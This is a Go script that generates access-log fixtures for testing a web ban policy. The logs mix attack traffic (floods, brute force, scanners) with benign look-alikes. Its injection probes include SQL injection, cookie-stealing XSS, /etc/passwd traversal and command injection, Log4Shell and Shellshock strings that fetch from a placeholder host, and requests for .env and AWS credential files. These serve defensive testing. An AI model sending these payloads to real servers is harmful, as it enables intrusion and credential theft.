// Command genfixtures writes the fixture logs in testdata/logs/ that prove
// the default policy's promises (what it bans, what it never bans). The logs
// are committed; this program documents how they were made and remakes them
// byte for byte: go run ./scripts/genfixtures -dir testdata/logs
package main

import (
	"bufio"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"time"
)

var start = time.Date(2026, 11, 1, 10, 0, 0, 0, time.UTC)

const (
	chrome  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
	firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"
	safari  = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"
)

type logw struct {
	w *bufio.Writer
}

func (l *logw) line(t time.Time, ip, method, target string, status int, ref, ua string) {
	if ref == "" {
		ref = "-"
	}
	fmt.Fprintf(l.w, "%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"%s\" \"%s\"\n",
		ip, t.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, 512+len(target)*7, ref, ua)
}

func main() {
	dir := flag.String("dir", "testdata/logs", "output directory")
	flag.Parse()
	gens := map[string]func(*logw){
		"flood.log":            flood,
		"login-bruteforce.log": bruteforce,
		"scanner.log":          scanner,
		"injection.log":        injection,
		"sensitive-files.log":  sensitive,
		"trap.log":             trap,
		"office-nat.log":       officeNAT,
		"crawlers.log":         crawlers,
		"sync-client.log":      syncClient,
		"benign-searches.log":  searches,
		"ipv6-rotation.log":    ipv6Rotation,
	}
	for name, gen := range gens {
		if err := writeFile(filepath.Join(*dir, name), gen); err != nil {
			fmt.Fprintln(os.Stderr, "genfixtures:", err)
			os.Exit(1)
		}
	}
}

func writeFile(path string, gen func(*logw)) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	l := &logw{w: bufio.NewWriter(f)}
	gen(l)
	if err := l.w.Flush(); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// background is an ordinary visitor, present in every fixture so "not
// banned" is always asserted about someone.
func background(l *logw, t time.Time, i int) {
	l.line(t, "198.51.100.200", "GET", []string{"/", "/products", "/static/css/app.css", "/about"}[i%4], 200, "https://shop.example/", firefox)
}

// flood: one client hammers the home page at 150 requests/s for 20 s. The
// default flood throttle allows 100/s in bursts: a sync client or a busy NAT
// may legitimately reach tens per second.
func flood(l *logw) {
	for i := 0; i < 3000; i++ {
		t := start.Add(time.Duration(i) * time.Second / 150)
		l.line(t, "203.0.113.10", "GET", "/", 200, "", "python-requests/2.32.3")
		if i%150 == 0 {
			background(l, t, i)
		}
	}
}

// bruteforce: WordPress answers failed logins with 200, others with 401.
// A user who mistypes twice and then gets in must stay unharmed.
func bruteforce(l *logw) {
	t := start
	for i := 0; i < 40; i++ {
		t = t.Add(3 * time.Second)
		l.line(t, "203.0.113.20", "POST", "/wp-login.php", 200, "https://blog.example/wp-login.php", chrome)
		l.line(t, "203.0.113.21", "POST", "/api/auth/login", 401, "", "Go-http-client/1.1")
		if i%5 == 0 {
			background(l, t, i)
		}
	}
	u := "198.51.100.30"
	l.line(t.Add(1*time.Second), u, "GET", "/login", 200, "", safari)
	l.line(t.Add(9*time.Second), u, "POST", "/login", 401, "https://shop.example/login", safari)
	l.line(t.Add(21*time.Second), u, "POST", "/login", 401, "https://shop.example/login", safari)
	l.line(t.Add(30*time.Second), u, "POST", "/login", 302, "https://shop.example/login", safari)
	l.line(t.Add(31*time.Second), u, "GET", "/account", 200, "https://shop.example/login", safari)
}

// scanner: a content-discovery sweep (many distinct missing paths, fast,
// ordinary-looking UA) and an attack tool announcing itself.
func scanner(l *logw) {
	words := []string{"admin", "backup", "old", "test", "dev", "api", "private", "db", "sql", "config",
		"uploads", "tmp", "logs", "cgi-bin", "phpmyadmin", "manager", "console", "dashboard", "panel", "staging"}
	t := start
	for i := 0; i < 200; i++ {
		t = t.Add(150 * time.Millisecond)
		p := fmt.Sprintf("/%s%d/", words[i%len(words)], i/len(words))
		l.line(t, "203.0.113.30", "GET", p, 404, "", chrome)
		if i%20 == 0 {
			background(l, t, i)
		}
	}
	l.line(t.Add(time.Second), "203.0.113.31", "GET", "/", 200, "", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)")
	l.line(t.Add(2*time.Second), "203.0.113.32", "GET", "/", 200, "", "sqlmap/1.8.4#stable (https://sqlmap.org)")
	l.line(t.Add(3*time.Second), "203.0.113.33", "GET", "/", 400, "", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")
}

// injection: one client per probe category, each sending a single request.
func injection(l *logw) {
	probes := []struct{ ip, method, target, ua string }{
		{"203.0.113.40", "GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", chrome},
		{"203.0.113.41", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", chrome},
		{"203.0.113.42", "GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", chrome},
		{"203.0.113.43", "GET", "/index.php?page=http://203.0.113.250/shell.txt?", chrome},
		{"203.0.113.44", "GET", "/cgi-bin/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", chrome},
		{"203.0.113.45", "GET", "/", "${jndi:ldap://203.0.113.250:1389/Exploit}"},
		{"203.0.113.46", "GET", "/cgi-bin/status", "() { :; }; /bin/bash -c 'wget http://203.0.113.250/x'"},
		{"203.0.113.47", "POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", chrome},
		{"203.0.113.48", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", chrome},
		{"203.0.113.49", "GET", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", chrome},
		{"203.0.113.50", "GET", "/products?id=1%252527%252520OR%2525201%25253D1--", chrome},
		{"203.0.113.51", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", chrome},
	}
	t := start
	for i, p := range probes {
		t = t.Add(7 * time.Second)
		l.line(t, p.ip, p.method, p.target, 404, "", p.ua)
		background(l, t.Add(time.Second), i)
	}
}

// sensitive: a client looking for secrets left on the web root.
func sensitive(l *logw) {
	t := start
	for i, p := range []string{"/.env", "/.git/config", "/backup.zip", "/phpinfo.php", "/.aws/credentials", "/wp-config.php.bak"} {
		t = t.Add(2 * time.Second)
		l.line(t, "203.0.113.60", "GET", p, 404, "", "Mozilla/5.0 (X11; Linux x86_64)")
		background(l, t, i)
	}
}

// trap: a single request to a honeypot path bans at once.
func trap(l *logw) {
	background(l, start, 0)
	l.line(start.Add(time.Second), "203.0.113.70", "GET", "/boaform/admin/formLogin?username=admin&psd=admin", 404, "", chrome)
	background(l, start.Add(2*time.Second), 1)
}

// officeNAT: a few dozen people behind one address browse steadily at about
// seven requests a second for half an hour: pages with their assets, the odd
// 404, form posts, searches.
func officeNAT(l *logw) {
	rng := rand.New(rand.NewPCG(7, 7))
	pages := []string{"/", "/products", "/products/%d", "/search?q=winter+jacket", "/cart", "/blog/post-%d", "/account/orders", "/help/shipping"}
	assets := []string{"/static/css/app.css", "/static/js/app.js", "/static/img/logo.svg", "/static/img/p%d.webp"}
	t := start
	end := start.Add(30 * time.Minute)
	ip := "198.51.100.7"
	for t.Before(end) {
		// A page view: the page, then its assets within a second.
		page := pages[rng.IntN(len(pages))]
		if containsVerb(page) {
			page = fmt.Sprintf(page, rng.IntN(500))
		}
		ua := []string{chrome, firefox, safari}[rng.IntN(3)]
		status := 200
		if rng.IntN(100) == 0 {
			status = 404
		}
		method := "GET"
		if rng.IntN(40) == 0 {
			method, page = "POST", "/cart/add"
		}
		l.line(t, ip, method, page, status, "https://shop.example/", ua)
		for j := 0; j < 6; j++ {
			a := assets[rng.IntN(len(assets))]
			if containsVerb(a) {
				a = fmt.Sprintf(a, rng.IntN(500))
			}
			st := 200
			if rng.IntN(3) == 0 {
				st = 304
			}
			l.line(t.Add(time.Duration(j+1)*120*time.Millisecond), ip, "GET", a, st, "https://shop.example"+page, ua)
		}
		// 7 lines per view, one view per second: ~7 req/s.
		t = t.Add(time.Second)
	}
}

func containsVerb(s string) bool {
	for i := 0; i+1 < len(s); i++ {
		if s[i] == '%' && s[i+1] == 'd' {
			return true
		}
	}
	return false
}

// crawlers: Googlebot and bingbot walk the catalogue at their usual pace,
// hitting some missing pages.
func crawlers(l *logw) {
	g := "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	b := "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
	t := start
	for i := 0; i < 3600; i++ {
		t = t.Add(time.Second)
		status := 200
		if i%25 == 0 {
			status = 404
		}
		l.line(t, "66.249.66.1", "GET", fmt.Sprintf("/products/%d", i), status, "", g)
		if i%3 == 0 {
			l.line(t.Add(500*time.Millisecond), "157.55.39.1", "GET", fmt.Sprintf("/blog/post-%d", i), status, "", b)
		}
	}
}

// syncClient: a Nextcloud desktop client and a Jellyfin app syncing: bursts
// of PROPFIND/GET over many distinct paths, previews that 404.
func syncClient(l *logw) {
	nc := "Mozilla/5.0 (Windows) mirall/3.14.1stable-Win64 (build 20241015) (Nextcloud, windows-10.0.22631 ClientArchitecture: x86_64 OsArchitecture: x86_64)"
	jf := "Jellyfin-Android/2.6.1"
	t := start
	for i := 0; i < 1200; i++ {
		t = t.Add(50 * time.Millisecond) // 20 requests/s for a minute
		switch i % 4 {
		case 0:
			l.line(t, "198.51.100.80", "PROPFIND", fmt.Sprintf("/remote.php/dav/files/alice/Photos/2026/%d/", i), 207, "", nc)
		case 1:
			l.line(t, "198.51.100.80", "GET", fmt.Sprintf("/remote.php/dav/files/alice/Photos/2026/IMG_%04d.jpg", i), 200, "", nc)
		case 2:
			l.line(t, "198.51.100.80", "GET", fmt.Sprintf("/index.php/core/preview?fileId=%d&x=32&y=32&a=1", 1000+i), 404, "", nc)
		case 3:
			l.line(t, "198.51.100.81", "GET", fmt.Sprintf("/Items/%x/Images/Primary?fillHeight=396&fillWidth=264&quality=96", 0xabc000+i), 404, "", jf)
		}
	}
}

// searches: people searching for things that look like attacks to a naive
// filter.
func searches(l *logw) {
	qs := []string{"O%27Reilly", "select+a+size", "union+jack", "%3Cb%3E", "rock+%26+roll", "O'Reilly+books",
		"drop+down+menu", "1%3D1+fashion", "script+writing", "select+from+our+range", "50%25+off", "%22quoted+search%22"}
	t := start
	for i := 0; i < 60; i++ {
		t = t.Add(4 * time.Second)
		ip := fmt.Sprintf("198.51.100.%d", 100+i%12)
		l.line(t, ip, "GET", "/search?q="+qs[i%len(qs)], 200, "https://shop.example/", chrome)
	}
}

// ipv6Rotation: an attacker rotating addresses inside one /64 while probing,
// and two ordinary IPv6 clients in other /64s.
func ipv6Rotation(l *logw) {
	t := start
	for i := 0; i < 12; i++ {
		t = t.Add(2 * time.Second)
		l.line(t, fmt.Sprintf("2001:db8:bad:1::%x", 0x100+i*17), "GET", []string{"/.env", "/.git/HEAD", "/config.php.bak", "/.aws/credentials"}[i%4], 404, "", "Mozilla/5.0")
		l.line(t, fmt.Sprintf("2001:db8:600d:%x::1", i%2), "GET", "/products", 200, "", firefox)
	}
}
